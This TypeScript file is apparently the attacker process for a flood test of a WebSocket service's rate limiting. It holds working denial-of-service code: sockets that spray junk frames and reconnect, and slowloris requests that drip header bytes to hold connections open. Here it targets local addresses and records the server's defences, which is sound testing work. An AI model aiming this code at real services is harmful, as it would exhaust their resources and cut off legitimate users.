// The flood scenario's attacker, run as its own low-priority process: sockets that never join and spray junk
// frames, reopening as soon as they are closed or refused, plus slow requests that never finish their headers.
// Prints one JSON line (AttackReport) when its time is up.
import net from 'node:net';
import WebSocket from 'ws';

export interface AttackPlan {
  url: string;
  /** Local address of the flooding sockets and of the slow requests (any of 127.0.0.0/8). */
  from: string;
  slowFrom: string;
  sockets: number;
  slow: number;
  durationMs: number;
}

export interface AttackReport {
  /** Connections tried, opened or not. */
  attempts: number;
  framesSent: number;
  socketsOpened: number;
  refused: number;
  closes: Record<string, number>;
  rateLimitedNotices: number;
  otherReplies: number;
  slowOpened: number;
  slowClosedByServer: number;
}

/** Frames a socket keeps queued before it waits for the kernel; enough to saturate, little enough to stay small. */
const HIGH_WATER = 64 * 1024;
/** Frames one socket sends before letting the others (and its own replies) have a turn. */
const FRAMES_PER_TURN = 50;
const JUNK = '{"type":"nonsense","payload":"' + 'x'.repeat(64) + '"';

function attack(plan: AttackPlan): Promise<AttackReport> {
  const report: AttackReport = {
    attempts: 0,
    framesSent: 0,
    socketsOpened: 0,
    refused: 0,
    closes: {},
    rateLimitedNotices: 0,
    otherReplies: 0,
    slowOpened: 0,
    slowClosedByServer: 0,
  };
  const endAt = Date.now() + plan.durationMs;
  const live = `${plan.url.replace(/^http/, 'ws')}/live`;
  const { hostname, port } = new URL(plan.url);
  const open = new Set<WebSocket>();
  const slowSockets = new Set<net.Socket>();

  function flooder(): void {
    if (Date.now() >= endAt) return;
    const ws = new WebSocket(live, { localAddress: plan.from, perMessageDeflate: false });
    report.attempts += 1;
    open.add(ws);
    const spray = () => {
      for (let i = 0; i < FRAMES_PER_TURN && ws.readyState === WebSocket.OPEN && ws.bufferedAmount < HIGH_WATER; i += 1) {
        ws.send(JUNK);
        report.framesSent += 1;
      }
      if (ws.readyState === WebSocket.OPEN && Date.now() < endAt) setImmediate(spray);
    };
    ws.on('open', () => {
      report.socketsOpened += 1;
      spray();
    });
    ws.on('message', (data) => {
      if (data.toString().includes('"rate_limited"')) report.rateLimitedNotices += 1;
      else report.otherReplies += 1;
    });
    ws.on('unexpected-response', (request, response) => {
      report.refused += 1;
      response.resume();
      request.destroy();
      open.delete(ws);
      setImmediate(flooder);
    });
    ws.on('error', () => undefined);
    ws.on('close', (code) => {
      open.delete(ws);
      if (code !== 1006) report.closes[code] = (report.closes[code] ?? 0) + 1;
      setImmediate(flooder);
    });
  }

  function slowRequest(): void {
    if (Date.now() >= endAt) return;
    const socket = net.connect({ host: hostname, port: Number(port), localAddress: plan.slowFrom });
    slowSockets.add(socket);
    let drip: NodeJS.Timeout | undefined;
    socket.on('connect', () => {
      report.slowOpened += 1;
      socket.write('GET /healthz HTTP/1.1\r\nHost: ettor\r\n');
      // One header byte now and then, as a slowloris keeps a request from ever timing out for idleness.
      drip = setInterval(() => socket.write('X'), 2_000);
    });
    socket.on('error', () => undefined);
    // Reading is what lets the server's close arrive.
    socket.resume();
    socket.on('close', () => {
      clearInterval(drip);
      slowSockets.delete(socket);
      if (Date.now() < endAt) {
        report.slowClosedByServer += 1;
        setTimeout(slowRequest, 100);
      }
    });
  }

  for (let i = 0; i < plan.sockets; i += 1) flooder();
  for (let i = 0; i < plan.slow; i += 1) slowRequest();
  return new Promise((resolve) => {
    setTimeout(() => {
      for (const ws of open) ws.terminate();
      for (const socket of slowSockets) socket.destroy();
      resolve(report);
    }, plan.durationMs);
  });
}

const plan = JSON.parse(process.argv[2] ?? '{}') as AttackPlan;
process.stdout.write(`${JSON.stringify(await attack(plan))}\n`);
process.exit(0);
